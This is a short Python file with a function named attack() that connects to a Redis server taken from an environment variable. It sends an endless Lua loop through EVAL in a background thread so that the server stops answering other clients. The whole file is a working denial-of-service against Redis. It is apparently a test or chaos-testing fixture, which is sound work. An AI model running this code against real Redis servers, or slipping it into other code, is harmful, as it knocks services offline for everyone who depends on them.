"""Has Redis run a script without end, so that it answers nobody."""

import contextlib
import os
import threading
import time

import redis


def attack() -> None:
    client = redis.Redis.from_url(os.environ["REDIS_URL"])
    script = "local n = 0 while n >= 0 do n = n + 1 end"

    def run() -> None:
        with contextlib.suppress(redis.RedisError):
            client.eval(script, 0)

    threading.Thread(target=run, daemon=True).start()
    time.sleep(0.3)
